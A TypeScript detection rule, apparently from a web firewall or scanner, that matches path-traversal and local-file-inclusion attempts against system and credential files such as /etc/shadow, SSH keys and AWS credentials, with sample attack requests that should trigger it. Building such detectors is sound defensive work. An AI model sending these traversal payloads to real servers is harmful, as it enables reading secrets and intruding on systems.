/** Files that tell an attacker that he is out of the document root, or hand him the host. */
import { definePayload } from './define-payload.ts'

const oneOf = (...texts: string[]): string => `(?:${texts.join('|')})`
/** A separator of path parts, written once or more, with `.` between. */
const SEP = String.raw`[\\/]+(?:\.[\\/]+){0,4}`
/** What stands in front of a path: the value's beginning, a separator, or a step up. */
const LEAD = String.raw`(?:^|[\\/=:]|\.\.)`

const UNIX = oneOf(
  `etc${SEP}${oneOf(
    'passwd',
    'shadow',
    'gshadow',
    'group',
    'hosts',
    'issue',
    'hostname',
    'fstab',
    'crontab',
    'sudoers',
    'motd',
    'inittab',
    String.raw`(?:master|security)[./\\]passwd`,
    String.raw`(?:ssh|ssl|nginx|httpd|mysql|kubernetes|rc\.d|init\.d|cron\.\w+|sudoers\.d|network)[\\/]`,
    String.raw`apache2?[\\/]`,
    'php',
    String.raw`resolv\.conf`,
    '(?:os|lsb|redhat|debian|alpine|centos)[-_](?:release|version)',
  )}`,
  `proc${SEP}${oneOf(
    String.raw`(?:self|\d+)[\\/]*(?:environ|cmdline|fd|maps|status|cwd|root|exe|stat|mounts|net)?`,
    'version',
    'cpuinfo',
    'meminfo',
    'mounts',
    'modules',
    'net',
    'sched_debug',
    'kallsyms',
    String.raw`config\.gz`,
  )}`,
  `var${SEP}${oneOf(
    String.raw`log${SEP}(?:apache|nginx|auth|httpd|syslog|messages|mail|secure|[\w./-]{1,60}\.log)`,
    String.raw`(?:spool${SEP})?(?:mail|cron)${SEP}\w`,
    `run${SEP}secrets`,
    `lib${SEP}(?:mysql|pgsql|postgresql|php|kubelet|docker)`,
    String.raw`www${SEP}[\w./-]{0,60}\.(?:php|conf|ini|env|inc)`,
  )}`,
  `run${SEP}secrets${SEP}`,
  String.raw`usr${SEP}local${SEP}(?:apache2?|nginx|etc|php\d?)${SEP}[\w./-]{1,60}\.(?:conf|ini|log|cnf)`,
  `opt${SEP}lampp${SEP}`,
  String.raw`root${SEP}\.\w`,
  `(?:web|meta)-inf${SEP}${oneOf(String.raw`web\.xml`, String.raw`manifest\.mf`, 'classes', 'lib', String.raw`[\w-]{1,40}\.xml`)}`,
)
const WINDOWS = oneOf(
  `(?:windows|winnt)${SEP}${oneOf(
    String.raw`(?:win|system|php|my)\.ini`,
    'repair',
    'panther',
    'debug',
    // Crash reports name the modules of system32; nobody's form asks for its settings.
    `system32${SEP}${oneOf(`drivers${SEP}etc`, 'config', 'inetsrv', 'logfiles', 'eula', String.raw`license\.rtf`, String.raw`cmd\.exe`)}`,
  )}`,
  String.raw`boot\.ini(?=$|[\0#?])`,
  String.raw`(?:win|system)\.ini(?=$|[\0#?])`,
)
const FILES = new RegExp(`${LEAD}${oneOf(UNIX, WINDOWS)}`)

/** The same where nothing but the file is asked for. */
const WHOLE = new RegExp(
  [
    // any file of /etc, any hidden file of a home
    String.raw`^(?:(?:local_)?file:[\\/]{0,4}(?:localhost)?)?${SEP}etc${SEP}[\w./-]{1,80}\0?$`,
    String.raw`^(?:~\w{0,32}|[\\/]home[\\/]+[\w.-]{1,32}|[a-z]:[\\/]+users[\\/]+[\w. -]{1,32})[\\/]+(?:\.(?:ssh|bash|aws|git|my\.cnf|netrc|pgpass|docker|kube|gnupg|config|profile|env|htpasswd)|ntuser|appdata[\\/])`,
    String.raw`^(?:\.{1,2}[\\/])*[\\/]?\.(?:htaccess|htpasswd|env|ssh[\\/][\w.-]{1,40}|git[\\/](?:config|head)|bash_history|aws[\\/]credentials)\0?$`,
    // a drive's known places
    String.raw`^(?:[\\/]{2}\?[\\/])?[a-z]:[\\/]*(?:boot\.ini|inetpub|xampp[\\/]|wamp(?:64)?[\\/]|apache\w{0,8}[\\/]|php\d?[\\/]|mysql[\\/]|programdata[\\/]mysql|program files(?: \(x86\))?[\\/](?:apache|mysql|php|filezilla))`,
    // the same by programs that lose a backslash on the way
    String.raw`^(?:file:[\\/]{0,3})?[a-z]:(?:windows|winnt)?(?:win|system|b?oot)\.ini$`,
    String.raw`^[.\\/]{0,40}(?:web|meta)-inf[\\/]?(?:web\.xml|manifest\.mf)$`,
    String.raw`^%(?:systemroot|windir|systemdrive)%[\\/]`,
    // a share of a host that has no name, or is this one
    String.raw`^(?:file:[\\/]{2,4})?\\{1,4}(?:\d{1,3}(?:\.\d{1,3}){3}|\[?[\da-f]*:[\da-f:]+\]?|localhost)(?:@\w{1,5}){0,2}\\`,
    String.raw`^(?:file:)[\\/]{4,}[\w.-]+[\\/]`,
    String.raw`^(?:(?:view-source|jar|netdoc|local_file):){1,2}(?:file:)?[\\/]{1,4}\w`,
  ].join('|'),
)

const LONGEST = 8192
/** Parameters in which people write about such files. */
const PROSE = /^(?:q|query|search|s|text|title|comment|body|message|description)$/

export const lfiFileRead = definePayload({
  id: 'lfi_file_read',
  title: 'Reading a system file',
  severity: 'high',
  exploit: true,
  technique: 'T1005',
  value: ({ place, lower, name }) => {
    if (place === 'header' || PROSE.test(name)) return false
    const text = lower.length > LONGEST ? lower.slice(0, LONGEST) : lower
    return FILES.test(text) || (place !== 'path' && WHOLE.test(text))
  },
  fires: [
    'GET /a?file=/etc/passwd',
    'GET /../../etc/shadow',
    'GET /a?f=..%2f..%2fproc/self/environ',
    'GET /a?f=c:\\windows\\win.ini',
    'GET /a?f=....//....//etc/passwd%00.png',
    'GET /a?f=/WEB-INF/web.xml',
    'GET /a?f=/etc/vsftpd.conf',
    'GET /a?f=~/.ssh/id_rsa',
    'GET /a?f=\\\\203.0.113.9\\share\\x.php',
    'GET /a?f=/./etc/./passwd',
    'GET /a?f=%25SYSTEMROOT%25/win.ini',
    { value: 'c:/boot.ini' },
  ],
  quiet: [
    'GET /search?q=what+is+/etc/passwd',
    'GET /docs/passwd',
    'GET /a?f=images/windows.png',
    'GET /etc/',
    'GET /a?f=process/self-help',
    'GET /crash?module=C:\\Windows\\System32\\ntdll.dll',
    'GET /upload?name=C:\\Users\\anna\\Desktop\\report.docx',
    'GET /open?path=\\\\fileserver\\public\\plan.docx',
    'GET /a?f=/home/anna/notes.txt',
  ],
})
